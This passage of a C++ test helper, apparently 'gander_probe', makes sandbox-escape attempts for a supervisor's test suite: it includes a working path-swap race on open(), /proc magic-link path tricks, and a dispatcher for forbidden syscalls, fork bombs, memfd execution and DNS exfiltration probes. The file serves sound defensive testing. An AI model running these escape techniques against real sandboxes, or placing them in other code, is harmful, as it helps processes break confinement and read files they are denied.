  asm volatile("int $0x80" : "=a"(rc) : "a"(kI386Getpid) : "memory", "r8", "r9", "r10", "r11");
  fprintf(stderr, "probe: int $0x80 getpid returned %ld\n", rc);
  return kSucceeded;
}

// --- helpers for the audit-log tests ------------------------------------------------------

// stat(2) without opening: what `monitor.files: all` adds to the audit log.
int DoStat(const char* path) {
  struct stat st {};
  return Result(Check(Fmt("stat %s", path).c_str(), stat(path, &st)));
}

// Opens DIR, then REL relative to it (openat with a real dirfd, not AT_FDCWD).
int DoOpenat(const char* dir, const char* rel) {
  int dirfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (!Check(Fmt("open %s", dir).c_str(), dirfd)) return kFailed;
  int fd = openat(dirfd, rel, O_RDONLY | O_CLOEXEC);
  bool ok = Check(Fmt("openat(%s, %s)", dir, rel).c_str(), fd);
  if (ok) close(fd);
  close(dirfd);
  return Result(ok);
}

// Reads FILE through a magic link of our own: "/proc/self/cwd/REL" style paths built at run
// time, for the forms that need our pid or an fd number.
//   ownpid-root FILE     /proc/<getpid()>/root/FILE
//   fd-dotdot DIR REL    /proc/self/fd/<fd of DIR>/REL
int DoMagic(const char* form, const char* a, const char* b) {
  std::string path;
  int dirfd = -1;
  if (strcmp(form, "ownpid-root") == 0) {
    path = Fmt("/proc/%d/root%s", getpid(), a);
  } else if (strcmp(form, "fd-dotdot") == 0 && b) {
    dirfd = open(a, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (!Check(Fmt("open %s", a).c_str(), dirfd)) return kFailed;
    path = Fmt("/proc/self/fd/%d/%s", dirfd, b);
  } else {
    return kUsage;
  }
  fprintf(stderr, "probe: magic path %s\n", path.c_str());
  int rc = DoRead(path.c_str());
  if (dirfd >= 0) close(dirfd);
  return rc;
}

// Opens FILE from a second thread: the audit log must still name the process.
int DoThreadRead(const char* path) {
  int rc = kFailed;
  std::thread t([&] { rc = DoRead(path); });
  t.join();
  return rc;
}

// Makes one refused syscall and one refused open, says so, then waits (for SIGTERM/SIGKILL):
// the audit log must show both while the extension still runs.
int DoDenyAndWait(const char* path) {
  Check("keyctl(KEYCTL_GET_KEYRING_ID, user keyring)",
        syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1));
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  Check(Fmt("open %s for reading", path).c_str(), fd);
  if (fd >= 0) close(fd);
  fprintf(stderr, "probe: waiting\n");
  for (;;) pause();
}

// The path-swap race: one thread keeps rewriting a path buffer in place, alternating between
// A and B, while this thread open()s the buffer again and again (the classic attack on a
// supervisor that reads a path and then lets the kernel read it again). Runs at least
// MIN_OPENS opens, and on until both an open of A's content and a failed or foreign open
// have been seen, but never past MAX_MS. Every successful open is read and compared with A's
// content (read once at the start): different bytes came from another file, the escape.
// Exit 0 = some open returned another file's bytes; 1 = none did.
int DoRace(const char* a, const char* b, const char* min_opens_arg, const char* max_ms_arg) {
  const long min_opens = atol(min_opens_arg);
  const long max_ms = atol(max_ms_arg);
  std::string a_content;
  {
    int fd = open(a, O_RDONLY | O_CLOEXEC);
    if (!Check(Fmt("open %s (A, the harmless file)", a).c_str(), fd)) return kUsage;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) a_content.append(buf, static_cast<size_t>(n));
    close(fd);
  }
  const size_t a_len = strlen(a), b_len = strlen(b);
  if (a_len >= 1024 || b_len >= 1024) return kUsage;
  static char path[1024];
  memcpy(path, a, a_len + 1);
  std::atomic<bool> stop{false};
  std::atomic<long> swaps{0};
  std::thread swapper([&] {
    // Byte-wise relaxed stores: the buffer is changed in place, as a racing attacker would;
    // the opener may see A, B or a mix (a torn path), which is fine.
    bool to_b = true;
    while (!stop.load(std::memory_order_relaxed)) {
      const char* src = to_b ? b : a;
      size_t len = to_b ? b_len : a_len;
      for (size_t i = 0; i <= len; ++i) __atomic_store_n(&path[i], src[i], __ATOMIC_RELAXED);
      to_b = !to_b;
      swaps.fetch_add(1, std::memory_order_relaxed);
    }
  });
  long opens = 0, got_a = 0, got_other = 0, failed = 0;
  int first_errno = 0;
  std::string leaked;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(max_ms);
  while (std::chrono::steady_clock::now() < deadline) {
    if (opens >= min_opens && got_a > 0 && (failed > 0 || got_other > 0)) break;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ++opens;
    if (fd < 0) {
      if (!first_errno) first_errno = errno;
      ++failed;
      continue;
    }
    std::string content;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) content.append(buf, static_cast<size_t>(n));
    close(fd);
    if (content == a_content) {
      ++got_a;
    } else {
      ++got_other;
      if (leaked.empty()) leaked = content.substr(0, 40);
    }
  }
  stop = true;
  swapper.join();
  fprintf(stderr,
          "probe: race: %ld opens, %ld swaps: %ld read A, %ld read another file, %ld failed "
          "(first errno %d: %s)\n",
          opens, swaps.load(), got_a, got_other, failed, first_errno,
          first_errno ? strerror(first_errno) : "none");
  if (got_other > 0) {
    fprintf(stderr, "probe: race: ESCAPED: read %zu+ bytes of another file, starting \"%s\"\n",
            leaked.size(), leaked.c_str());
  }
  return Result(got_other > 0);
}

// --- helpers for the lifecycle tests --------------------------------------------------------

// Ignores SIGTERM and waits forever; the marker only makes the process findable in /proc.
int DoIgnoreTerm() {
  signal(SIGTERM, SIG_IGN);
  fprintf(stderr, "probe: ignoring SIGTERM\n");
  for (;;) pause();
}

int DoCrash() {
  fprintf(stderr, "probe: writing through a null pointer\n");
  volatile int* volatile p = nullptr;
  *p = 1;
  return kFailed;
}

int Usage() {
  fprintf(stderr,
          "usage: gander_probe ATTEMPT [ARGS]\n"
          "  read FILE | list DIR | write FILE | exec PATH [ARGS] | fds\n"
          "  env NAME [VALUE]\n"
          "  tcp IP PORT | udp IP PORT | unix PATH | abstract NAME | packet | vsock-high-bits\n"
          "  unix-high-bits PATH | mptcp-high-bits | family-race IP PORT TRIES | memfd-exec\n"
          "  listen-autobind | bind-any\n"
          "  kill PID [SIG] | userns | setns NSFILE... | ptrace | process_vm | forkbomb N\n"
          "  mount DIR | umount DIR | chroot DIR | bpf | io_uring | keyctl | perf\n"
          "  open_by_handle FILE | tiocsti | x32 | int80\n"
          "  ignore-term [MARKER] | crash\n"
          "  stat FILE | openat DIR REL | magic ownpid-root FILE | magic fd-dotdot DIR REL\n"
          "  thread-read FILE | deny-and-wait FILE | race A B MIN_OPENS MAX_MS\n"
          "exit status: 0 the attempt succeeded, 1 it failed, 2 usage\n");
  return kUsage;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return Usage();
  std::string cmd = argv[1];
  int nargs = argc - 2;
  char** args = argv + 2;
  auto need = [nargs](int n) { return nargs >= n; };

  if (cmd == "read" && need(1)) return DoRead(args[0]);
  if (cmd == "list" && need(1)) return DoList(args[0]);
  if (cmd == "write" && need(1)) return DoWrite(args[0]);
  if (cmd == "exec" && need(1)) return DoExec(args);
  if (cmd == "fds") return DoFds();
  if (cmd == "env" && need(1)) return DoEnv(args[0], nargs > 1 ? args[1] : nullptr);
  if (cmd == "tcp" && need(2)) return DoTcp(args[0], args[1]);
  if (cmd == "udp" && need(2)) return DoUdp(args[0], args[1]);
  if (cmd == "unix" && need(1)) return DoUnix(args[0]);
  if (cmd == "packet") return DoPacket();
  if (cmd == "vsock-high-bits") return DoVsockHighBits();
  if (cmd == "unix-high-bits" && need(1)) return DoUnixHighBits(args[0]);
  if (cmd == "mptcp-high-bits") return DoMptcpHighBits();
  if (cmd == "family-race" && need(3)) return DoFamilyRace(args[0], args[1], args[2]);
  if (cmd == "memfd-exec") return DoMemfdExec();
  if (cmd == "exit0") return kSucceeded;
  if (cmd == "listen-autobind") return DoListenAutobind();
  if (cmd == "bind-any") return DoBindAny();
  if (cmd == "netlink") return DoNetlink();
  if (cmd == "dns-exfil") return DoDnsExfil(nargs > 0 ? args[0] : nullptr);
  if (cmd == "abstract" && need(1)) return DoAbstract(args[0]);
  if (cmd == "kill" && need(1)) return DoKill(args[0], nargs > 1 ? args[1] : nullptr);
  if (cmd == "userns") return DoUserns();
  if (cmd == "setns" && need(1)) return DoSetns(nargs, args);
  if (cmd == "ptrace") return DoPtrace();
  if (cmd == "process_vm") return DoProcessVm();
  if (cmd == "forkbomb" && need(1)) return DoForkbomb(args[0]);
  if (cmd == "mount" && need(1)) return DoMount(args[0]);
  if (cmd == "umount" && need(1)) return DoUmount(args[0]);
  if (cmd == "chroot" && need(1)) return DoChroot(args[0]);
  if (cmd == "bpf") return DoBpf();
  if (cmd == "io_uring") return DoIoUring();
  if (cmd == "keyctl") return DoKeyctl();
  if (cmd == "perf") return DoPerf();
  if (cmd == "open_by_handle" && need(1)) return DoOpenByHandle(args[0]);
  if (cmd == "tiocsti") return DoTiocsti();
  if (cmd == "x32") return DoX32();
  if (cmd == "int80") return DoInt80();
  if (cmd == "ignore-term") return DoIgnoreTerm();
  if (cmd == "crash") return DoCrash();
  if (cmd == "stat" && need(1)) return DoStat(args[0]);
  if (cmd == "openat" && need(2)) return DoOpenat(args[0], args[1]);
  if (cmd == "magic" && need(2)) return DoMagic(args[0], args[1], nargs > 2 ? args[2] : nullptr);
  if (cmd == "thread-read" && need(1)) return DoThreadRead(args[0]);
  if (cmd == "deny-and-wait" && need(1)) return DoDenyAndWait(args[0]);
  if (cmd == "race" && need(4)) return DoRace(args[0], args[1], args[2], args[3]);
  return Usage();
}
